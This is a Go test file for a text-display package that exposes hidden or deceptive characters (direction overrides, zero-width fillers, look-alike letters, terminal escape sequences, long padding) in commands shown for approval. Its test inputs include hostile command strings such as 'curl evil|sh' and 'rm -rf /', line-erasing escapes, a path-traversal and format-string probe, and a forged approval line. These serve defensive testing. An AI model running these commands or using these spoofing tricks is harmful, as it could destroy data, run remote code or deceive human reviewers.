package summaries_test

import (
	"strings"
	"testing"

	"holdpoint/summaries"
)

// hostile are the inputs of the reliability page, 5.4, that concern display,
// with the rendering that it asks for.
var hostile = []struct{ name, in, want string }{
	{"1 a direction override", "rm -rf /tmp/x \u202e}/ -rf mr", "rm -rf /tmp/x ⟨U+202E⟩}/ -rf mr"},
	{"2 a zero-width space", "echo ok\u200b; rm -rf /", "echo ok⟨U+200B⟩; rm -rf /"},
	{"3 a Cyrillic letter in a Latin word", "kubectl delete ns pr\u043ed", "kubectl delete ns pr⟨U+043E \u043e⟩d"},
	{"4 Hangul fillers", "ls\u3164\u3164&& curl evil|sh", "ls⟨U+3164⟩⟨U+3164⟩&& curl evil|sh"},
	{"4 other blanks", "a\uffa0b\u115fc\u2800d\ufe0fe\U000e0100f\u034fg\u17b4h", "a⟨U+FFA0⟩b⟨U+115F⟩c⟨U+2800⟩d⟨U+FE0F⟩e⟨U+E0100⟩f⟨U+034F⟩g⟨U+17B4⟩h"},
	{"5 sequences for a terminal", "echo hi\r\x1b[2K\x1b[1Aecho safe", "echo hi⟨U+000D⟩⟨U+001B⟩[2K⟨U+001B⟩[1Aecho safe"},
	{"5 the one-byte form of such a sequence", "a\u009b2Jb\x9b2J", "a⟨U+009B⟩2Jb⟨9B⟩2J"},
	{"6 tag characters", "x\ufe0f\U000e0041\U000e0042y", "x⟨U+FE0F⟩⟨U+E0041⟩⟨U+E0042⟩y"},
	{"7 a no-break space", "git push\u00a0--force", "git push⟨U+00A0⟩--force"},
	{"7 a line separator", "a\u2028b", "a⟨U+2028⟩b"},
	{"8 invalid bytes", "bad\xffutf8\xc0\xaf", "bad⟨FF⟩utf8⟨C0⟩⟨AF⟩"},
	{"9 an imitation of an escape", "⟨U+0041⟩", "⟨U+27E8⟩U+0041⟨U+27E9⟩"},
	{"9 an imitation with similar brackets", "〈U+0041〉", "⟨U+3008⟩U+0041⟨U+3009⟩"},
	{"10 many spaces before the danger", "ok" + strings.Repeat(" ", 300) + "; curl evil|sh", "ok⟨space×300⟩; curl evil|sh"},
	{"10 newlines before the danger", "ok\n\n; curl evil|sh", "ok⟨U+000A⟩⟨U+000A⟩; curl evil|sh"},
	{"15 a copy of our verdict", "✅ APPROVED by Alice 10:02", "⟨U+2705⟩ APPROVED by Alice 10:02"},
	{"15 the signs of our cards", "⛔🔴🛑⚠✓✗", "⟨U+26D4⟩⟨U+1F534⟩⟨U+1F6D1⟩⟨U+26A0⟩⟨U+2713⟩⟨U+2717⟩"},
	{"31 a path and a format string", "../../etc/x %s%n {{.Secret}} =cmd()", "../../etc/x %s%n {{.Secret}} =cmd()"},
	{"31 many combining marks", "a" + strings.Repeat("\u0301", 5) + "b", "a\u0301\u0301\u0301⟨U+0301⟩⟨U+0301⟩b"},
}

func TestVisibleShowsHostileTextAsTheReliabilityPageAsks(t *testing.T) {
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			if got := summaries.Visible(tt.in); got != tt.want {
				t.Errorf("Visible(%+q)\n got %+q\nwant %+q", tt.in, got, tt.want)
			}
			back, err := summaries.Reveal(tt.want)
			if err != nil || back != tt.in {
				t.Errorf("Reveal(%+q) = %+q, %v; want %+q", tt.want, back, err, tt.in)
			}
		})
	}
}

func TestVisibleLeavesOrdinaryTextAlone(t *testing.T) {
	for name, text := range map[string]string{
		"nothing":                         "",
		"a command":                       `pg_dump "orders" | gzip > /backups/orders.sql.gz && echo $?`,
		"three spaces":                    "a   b",
		"French":                          "Bascule après l’été : « prêt », cœur, façade, Noël",
		"decomposed accents":              "e\u0301te\u0301 a\u0302\u0323",
		"Russian beside Latin words":      "обновить PostgreSQL и nginx",
		"Greek":                           "Ελληνικά κείμενο",
		"Chinese with Latin in one word":  "使用PostgreSQL数据库",
		"Japanese with every script":      "サーバーをDeployする、か\u3099",
		"half-width kana with voice mark": "ｶﾞｷﾞ",
		"Korean":                          "배포 승인API",
		"decomposed Korean":               "\u1112\u1161\u11ab\u1100\u1173\u11af",
		"Hindi":                           "स्वीकृति दें, क्षत्रिय",
		"Arabic with vowels":              "مُحَمَّد",
		"Hebrew with points":              "שָׁלוֹם",
		"Vietnamese":                      "phê duyệt việc chuyển đổi",
		"Thai":                            "อนุมัติที่นี่",
		"digits and underscores":          "orders_v2_копия",
		"harmless emoji":                  "🎉 done 🚀",
		"quotation marks":                 "she said “yes”",
	} {
		t.Run(name, func(t *testing.T) {
			if got := summaries.Visible(text); got != text {
				t.Errorf("Visible(%+q) = %+q; want it unchanged", text, got)
			}
			if flags := summaries.Flags(text); flags != nil {
				t.Errorf("Flags(%+q) = %q; want none", text, flags)
			}
		})
	}
}

func TestVisibleFindsLettersThatDoNotBelong(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"a Latin letter in a Russian word", "Москвa", "Москв⟨U+0061 a⟩"},
		{"as many of each, Latin is home", "рrоd", "⟨U+0440 р⟩r⟨U+043E о⟩d"},
		{"three scripts", "aбγ", "a⟨U+0431 б⟩⟨U+03B3 γ⟩"},
		{"no Latin, order of names decides", "бγ", "б⟨U+03B3 γ⟩"},
		{"a word hidden in Chinese text", "使用рrоd服务", "使用⟨U+0440 р⟩r⟨U+043E о⟩d服务"},
		{"taken apart by zero-width spaces", "p\u200bо\u200bd", "p⟨U+200B⟩⟨U+043E о⟩⟨U+200B⟩d"},
		{"taken apart by Hangul fillers", "p\u3164о\u3164d", "p⟨U+3164⟩⟨U+043E о⟩⟨U+3164⟩d"},
		{"a mathematical letter", "r\U0001d5c6", "r⟨U+1D5C6 \U0001d5c6⟩"},
		{"a right-to-left letter, not shown", "abאc", "ab⟨U+05D0⟩c"},
		{"a mark has no letter left to stand on", "prо\u0301d", "pr⟨U+043E о⟩⟨U+0301⟩d"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := summaries.Visible(tt.in); got != tt.want {
				t.Errorf("Visible(%+q)\n got %+q\nwant %+q", tt.in, got, tt.want)
			}
		})
	}
}

func TestVisibleKeepsMarksOnlyWhereTheyBelong(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"at the start", "\u0301a", "⟨U+0301⟩a"},
		{"after a space", "a \u0301", "a ⟨U+0301⟩"},
		{"after a sign", "-\u0301", "-⟨U+0301⟩"},
		{"of another script", "a\u0483", "a⟨U+0483⟩"},
		{"striking a letter out", "o\u0336k\u0336", "o⟨U+0336⟩k⟨U+0336⟩"},
		{"an enclosing keycap", "1\ufe0f\u20e3", "1⟨U+FE0F⟩⟨U+20E3⟩"},
		{"a joined emoji", "👩\u200d💻", "👩⟨U+200D⟩💻"},
		{"a skin tone", "a\U0001f3fd", "a⟨U+1F3FD⟩"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := summaries.Visible(tt.in); got != tt.want {
				t.Errorf("Visible(%+q)\n got %+q\nwant %+q", tt.in, got, tt.want)
			}
		})
	}
}

func TestBlockKeepsLinesButNoEmptyScreen(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"plain lines", "a\nb\n", "a\nb\n"},
		{"two empty lines", "a\n\n\nb", "a\n\n\nb"},
		{"80 newlines", "a" + strings.Repeat("\n", 80) + "; curl evil|sh", "a⟨newline×80⟩; curl evil|sh"},
		{"lines of one space", "a\n \n \nb", "a\n⟨space×1⟩\n⟨space×1⟩\nb"},
		{"a space alone", " ", "⟨space×1⟩"},
		{"an indent", "a:\n  b: 1", "a:\n  b: 1"},
		{"a deep indent", "a\n        b", "a\n⟨space×8⟩b"},
		{"tab and return", "a\tb\r\nc", "a⟨U+0009⟩b⟨U+000D⟩\nc"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := summaries.Block(tt.in); got != tt.want {
				t.Errorf("Block(%+q)\n got %+q\nwant %+q", tt.in, got, tt.want)
			}
			if back, err := summaries.Reveal(tt.want); err != nil || back != tt.in {
				t.Errorf("Reveal = %+q, %v; want %+q", back, err, tt.in)
			}
		})
	}
}

func TestRevealRefusesWhatWasNotRenderedHere(t *testing.T) {
	for name, shown := range map[string]string{
		"an open escape":            "a⟨U+0041",
		"a closing mark alone":      "a⟩",
		"an unknown escape":         "⟨tab×2⟩",
		"a gap of a cut text":       "a⟨… 3 bytes not shown …⟩b",
		"a readable letter escaped": "⟨U+0061⟩",
		"a short run of spaces":     "a⟨space×2⟩b",
		"lower-case hexadecimal":    "⟨U+202e⟩",
		"a surrogate":               "⟨U+D800⟩",
		"beyond Unicode":            "⟨U+110000⟩",
		"a byte that is text":       "⟨41⟩",
		"raw control characters":    "a\x1b[2K",
		"raw invalid bytes":         "\xff",
		"a run beyond any memory":   "⟨space×9223372036854775807⟩",
		"a run that overflows":      "a⟨space×9223372036854775807⟩",
		"a negative run":            "⟨space×-1⟩",
		"runs beyond any memory":    strings.Repeat("⟨space×67108864⟩", 3),
	} {
		t.Run(name, func(t *testing.T) {
			if raw, err := summaries.Reveal(shown); err == nil {
				t.Errorf("Reveal(%+q) = %d bytes; want an error", shown, len(raw))
			}
		})
	}
}

func TestRevealSaysWhenTheTextIsTooLong(t *testing.T) {
	_, err := summaries.Reveal("⟨space×67108864⟩a⟨U+200B⟩")
	if err == nil || !strings.Contains(err.Error(), "64 MiB") {
		t.Errorf("Reveal of 64 MiB and more: %v; want the bound named", err)
	}
}
